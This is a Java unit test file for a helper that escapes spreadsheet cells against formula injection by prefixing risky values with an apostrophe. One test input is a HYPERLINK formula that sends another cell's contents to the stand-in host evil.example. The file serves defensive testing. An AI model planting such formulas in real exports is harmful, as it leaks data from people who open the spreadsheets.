package org.cercle.shared;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCellsTests {

	@ParameterizedTest
	@ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Ouvrir\")", "+1+1", "-2+3", "@SUM(A1)",
			"\t=1", "\r=1" })
	void cellsThatASpreadsheetWouldComputeAreWrittenAsText(String value) {
		assertThat(SpreadsheetCells.text(value)).isEqualTo("'" + value);
	}

	@Test
	void otherCellsAreLeftAsTheyAre() {
		assertThat(SpreadsheetCells.text("Anaïs Favre")).isEqualTo("Anaïs Favre");
		assertThat(SpreadsheetCells.text("")).isEmpty();
		assertThat(SpreadsheetCells.text("2 = 2")).isEqualTo("2 = 2");
	}

}
